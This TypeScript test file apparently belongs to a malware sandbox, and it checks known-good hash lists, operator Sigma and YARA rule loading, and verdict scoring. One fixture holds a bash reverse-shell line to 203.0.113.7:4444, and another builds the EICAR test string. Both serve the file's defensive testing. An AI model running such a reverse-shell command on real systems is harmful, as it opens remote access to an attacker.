import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { analyse, type ResultBody } from '../sandbox-runner/analyse.ts';
import { loadEngine, loadRules, type Own } from '../sandbox-runner/engine.ts';
import { readKnownGood } from '../sandbox-runner/known-good.ts';
import { FakeMachines } from '../sandbox-runner/machines/fake-machines.ts';
import { yaraRules } from '../sandbox-runner/static/yara-rule.ts';
import { score } from '../subgraphs/verdicts/scoring.ts';
import { hashOf, quietGuest } from './assay.ts';
import { sevenZip } from './samples/seven.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'assay-operator-'));
});
afterAll(async () => await rm(folder, { recursive: true, force: true }));
const file = async (name: string, text: string) => {
  await writeFile(join(folder, name), text);
  return join(folder, name);
};
const analysed = async (own: Own, name: string, bytes: Buffer) => {
  const engine = await loadEngine(own);
  try {
    let finished: Extract<ResultBody, { kind: 'finished' }> | undefined;
    await analyse(engine, new FakeMachines(['linux'], quietGuest), { fileName: name, runMsMax: 1_000, environment: null }, bytes, (result) => {
      if (result.kind === 'finished') finished = result;
      return Promise.resolve();
    });
    return { finished: finished!, verdict: score({ ...finished!, inert: false }) };
  } finally {
    await engine.close();
  }
};

describe('files that somebody vouches for', () => {
  const bytes = Buffer.from('#!/bin/sh\n# EICAR-like marker\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n');
  test('are clean without being run, and the verdict says who vouches', async () => {
    const { finished, verdict } = await analysed({ knownGood: await file('good.txt', `# ours\n${hashOf(bytes)} Debian bash 5.2\n`) }, 'a.sh', bytes);
    expect(finished.detonations).toEqual([]);
    expect(verdict).toMatchObject({ level: 'CLEAN', reason: 'KNOWN_GOOD', score: 0, summary: expect.stringContaining('Debian bash 5.2') as string });
    expect((await analysed({}, 'a.sh', bytes)).verdict.reason).not.toBe('KNOWN_GOOD');
  });
  test('say nothing against an archive that holds them', async () => {
    const zip = await sevenZip('holds.zip', ['-tzip'], { 'a.sh': bytes });
    const list = await file('good.txt', `${hashOf(bytes)} Debian bash 5.2\n`);
    const [without, within] = [(await analysed({}, 'holds.zip', zip)).finished, (await analysed({ knownGood: list }, 'holds.zip', zip)).finished];
    expect(without.detonations[0]).toMatchObject({ member: 'a.sh' });
    expect(within.detonations.map((one) => one.member)).not.toContain('a.sh');
    expect(within.signals.filter((one) => one.source === 'MEMBER' || one.source === 'TEXT')).toEqual([]);
  });
  test('come from a list that is read whole or not at all', async () => {
    await expect(readKnownGood(await file('bad.txt', `${'a'.repeat(64)} x\nnonsense\n`))).rejects.toThrow(/line 2: not a SHA-256/);
    await expect(readKnownGood(join(folder, 'absent.txt'))).rejects.toThrow(/can not be read/);
  });
});

describe("an operator's own rules", () => {
  const rule = (id: string) => `title: Ours\nid: ${id}\nlogsource: { category: process_creation, product: linux }\ndetection: { s: { CommandLine|contains: frobnicate }, condition: s }\nlevel: high\n`;
  test('join ours, and make another engine release', async () => {
    const rules = await mkdtemp(join(folder, 'rules-'));
    await writeFile(join(rules, 'one.yml'), rule('99999999-0000-4000-8000-000000000001'));
    await writeFile(join(rules, 'two.yar'), 'rule Operator_marker { meta: title = "Marker" weight = 95 condition: filesize < 1MB and uint8(0) == 0x23 }');
    const [ours, own] = [await loadRules(), await loadRules({ rules })];
    expect(own.sigma.length).toBe(ours.sigma.length + 1);
    expect(own.release.digest).not.toBe(ours.release.digest);
    expect(own.composition.matching).toBe(ours.composition.matching);
    expect(own.yara.get('yara-Operator_marker')).toMatchObject({ weight: 95, title: 'Marker' });
    const { verdict } = await analysed({ rules }, 'a.sh', Buffer.from('#!/bin/sh\necho x\n'));
    expect(verdict).toMatchObject({ level: 'MALICIOUS', reason: 'SIGNATURE', decisiveSignals: [{ rule: 'yara-Operator_marker' }] });
  });
  test('may count over ours, and say what their own words stand for: a new word is a new release', async () => {
    const rules = await mkdtemp(join(folder, 'rules-'));
    await writeFile(join(rules, 'expand.yml'), rule('99999999-0000-4000-8000-000000000002').replace('CommandLine|contains: frobnicate', "CommandLine|contains|expand: '%servers%'"));
    await writeFile(join(rules, 'many.yml'), 'title: Many\nid: 99999999-0000-4000-8000-000000000003\ncorrelation: { type: event_count, rules: assay-linux-connection, timespan: 1m, condition: { gte: 5 } }\n');
    expect((await loadRules({ rules })).leftOut).toMatchObject([{ reason: expect.stringContaining('nobody has said what %servers% stands for') as string }]);
    await writeFile(join(rules, 'placeholders.yml'), 'servers: [dc1.corp.example]\n');
    const first = await loadRules({ rules });
    expect(first.sigma.find((one) => one.id.endsWith('0002'))!.matches({ CommandLine: 'ping dc1.corp.example' })).toBe(true);
    expect(first.sigma.find((one) => one.id.endsWith('0003'))!.correlation).not.toBeNull();
    await writeFile(join(rules, 'placeholders.yml'), 'servers: [dc2.corp.example]\n');
    const second = await loadRules({ rules });
    expect(second.release.digest).not.toBe(first.release.digest);
    expect(Object.entries(second.composition.sigma).filter(([id, digest]) => first.composition.sigma[id] !== digest).map(([id]) => id)).toEqual(['99999999-0000-4000-8000-000000000002']);
  });
  test.each([
    ['a correlation over nothing', 'x.yml', 'title: Many\nid: m\ncorrelation: { type: event_count, rules: absent, timespan: 1m, condition: { gte: 5 } }\n', /the correlation names absent, which is not there/],
    ['a rule that does not compile', 'x.yml', 'title: T\nid: 1\nlogsource: {}\ndetection: { condition: absent }\n', /no rule: id/],
    ['an id that is taken', 'x.yml', null, /is taken by another rule; give yours an id of its own/],
    ['a text that is no YAML', 'x.yml', 'a: [b\n', /no YAML|no rule/],
  ])('are left out with the reason, and all others work: %s', async (_what, name, text, message) => {
    const rules = await mkdtemp(join(folder, 'rules-'));
    const ours = await loadRules();
    await writeFile(join(rules, name), text ?? rule(ours.sigma[0]!.id));
    await writeFile(join(rules, 'good.yml'), rule('99999999-0000-4000-8000-000000000009'));
    const loaded = await loadRules({ rules });
    expect(loaded.leftOut).toMatchObject([{ rule: expect.stringContaining(name) as string, reason: expect.stringMatching(message) as string }]);
    expect(loaded.sigma.length).toBe(ours.sigma.length + 1);
  });
  test.each([
    ['that does not compile', 'rule No { condition: nonsense }', /unknown identifier `nonsense` in line 1/],
    ['that asks for what YARA-X lacks', 'rule No { strings: $a = /a(?=b)/ condition: $a }', /invalid regular expression/],
  ])('of YARA %s are left out with the reason, and blind no others', async (_what, source, message) => {
    const rules = await mkdtemp(join(folder, 'rules-'));
    await writeFile(join(rules, 'bad.yar'), source);
    await writeFile(join(rules, 'outside.yar'), 'rule Outside { meta: weight = 40 condition: filename == "a.sh" and extension == ".sh" and filetype == "" }');
    // The same name as one of ours, and one that would forbid all others if it governed them.
    await writeFile(join(rules, 'same.yar'), 'rule packed_upx { meta: weight = 41 condition: uint8(0) == 0x23 }');
    await writeFile(join(rules, 'global.yar'), 'global rule Never { condition: filesize > 1000MB }\nrule Silent { condition: true }');
    const engine = await loadEngine({ rules });
    try {
      expect(engine.leftOut).toMatchObject([{ rule: expect.stringContaining('bad.yar') as string, reason: expect.stringMatching(message) as string }]);
      const { signals, limitations } = await engine.examiner.examine(Buffer.from('#!/bin/sh\n'), 'a.sh');
      expect(signals.filter((one) => one.source === 'YARA').map(({ rule: id, weight }) => [id, weight])).toEqual([['yara-Outside', 40], ['yara-packed_upx', 41]]);
      expect(limitations).toEqual([]);
      const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC', 'AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
      expect((await engine.examiner.examine(Buffer.from(eicar), 'e.com')).signals.map((one) => one.rule)).toContain('yara-eicar');
    } finally {
      await engine.close();
    }
  });
  test('stop the start where the words they stand for are none', async () => {
    const rules = await mkdtemp(join(folder, 'rules-'));
    await writeFile(join(rules, 'placeholders.yml'), 'servers: 5\n');
    await expect(loadRules({ rules })).rejects.toThrow(/placeholders\.yml must hold names, each with a list of texts/);
  });
  test('in a folder that is not there stop the start', async () => await expect(loadRules({ rules: join(folder, 'absent') })).rejects.toThrow(/ASSAY_RULES names .*absent/));
  test('of YARA tell weight and stories as the scanner reads them', () => {
    expect(yaraRules('/* x */ rule A : tag { meta: title = "T \\"q\\"" weight = 7 techniques = "T1059, T1027" benign = "b" strings: $a = "x" condition: $a }\nprivate rule B { condition: true }')).toMatchObject([
      { id: 'yara-A', title: 'T "q"', weight: 7, techniques: ['T1059', 'T1027'], benign: 'b' }, { id: 'yara-B', weight: 20 },
    ]);
  });
});
